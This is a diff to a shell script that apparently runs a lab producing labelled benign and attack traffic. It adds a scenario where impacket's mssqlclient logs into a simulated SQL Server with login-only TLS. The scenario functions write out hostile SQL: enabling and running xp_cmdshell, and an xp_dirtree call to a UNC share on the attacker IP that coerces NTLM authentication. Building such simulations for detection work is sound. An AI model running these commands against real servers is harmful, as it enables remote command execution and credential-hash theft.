@@ -231,11 +231,11 @@ apache_stop() {
 
 # the MS-TDS responder on ws01 (10.99.0.3:1433): started per scenario, ended by its PID
 TDS_PID=
-tds_start() {
+tds_start() {  # tds_start [responder options...]
   load_secrets
   ip netns exec $NS_VIC /usr/bin/python3 "$TOOLS/tds_responder.py" --listen "$VIC_IP" --port 1433 --name SQL01 \
      --domain "$DOMAIN" --dns-domain "$DNSDOM" --user "$DOMAIN/da_carol:$CAROL_PW" --user "$DOMAIN/alice:$ALICE_PW" \
-     --user "$DOMAIN/Administrator:$ADMIN_PW" --user-hash "$DOMAIN/DC1\$:$DC_NT" --xp-cmdshell-off > "$PWD/tds_responder.log" 2>&1 &
+     --user "$DOMAIN/Administrator:$ADMIN_PW" --user-hash "$DOMAIN/DC1\$:$DC_NT" --xp-cmdshell-off "$@" > "$PWD/tds_responder.log" 2>&1 &
   TDS_PID=$!
   local i; for i in $(seq 1 40); do ip netns exec $NS_VIC ss -Hltn | grep -q "$VIC_IP:1433 " && break; sleep 0.25; done
 }
@@ -344,6 +344,7 @@ ISL_SCENARIOS=(
   "ben_admin_sessions|benign|-|none|an admin on ws01 lists sessions, shares and server info with rpcclient (srvinfo, netsessenum, netshareenumall) and net rpc share / net rpc info"
   "ben_admin_rpcclient_users|benign|-|none|an admin on ws01 lists domain users and groups with Samba's rpcclient (SAMR enumdomusers, enumdomgroups, queryuser)"
   "ben_admin_dsacl|benign|-|none|an admin on ws01 reads the domain object's ACL with samba-tool dsacl get and queries users with samba-tool over LDAP"
+  "atk_mssqlclient_tls|attack|010 014|mssql_abuse|mssqlclient.py -windows-auth da_carol to the lab TDS responder with login-only encryption (PRELOGIN ENCRYPT_OFF, the default of SQL Server): TLS handshake in PRELOGIN packets, LOGIN7 (NTLM NEGOTIATE) encrypted, the SSPI AUTHENTICATE and the batches select @@version, xp_cmdshell whoami in cleartext"
   "ben_http_ntlm|benign|-|none|da_carol and alice on ws01 open http://dc1/certsrv/ with python3-requests-ntlm (plain HTTP NTLM logins to an intranet site, Apache mod_auth_gssapi + gss-ntlmssp)"
 )
 
@@ -434,6 +435,14 @@ sc_atk_mssqlclient() {
   tds_start
   printf '%s\n' 'select @@version' 'enable_xp_cmdshell' 'xp_cmdshell whoami' \
     "EXEC master..xp_dirtree '\\\\$ATK_IP\\share'" 'exit' > sql.txt
+  echo "+ (sql.txt: $(paste -sd';' sql.txt))"
+  # shellcheck disable=SC2046
+  X mssqlclient ak $(imp mssqlclient) -windows-auth -file sql.txt "$DOMAIN/da_carol:$CAROL_PW@$VIC_IP" || true
+  tds_stop
+}
+sc_atk_mssqlclient_tls() {
+  tds_start --encrypt-login
+  printf '%s\n' 'select @@version' 'xp_cmdshell whoami' 'exit' > sql.txt
   echo "+ (sql.txt: $(paste -sd';' sql.txt))"
   # shellcheck disable=SC2046
   X mssqlclient ak $(imp mssqlclient) -windows-auth -file sql.txt "$DOMAIN/da_carol:$CAROL_PW@$VIC_IP" || true
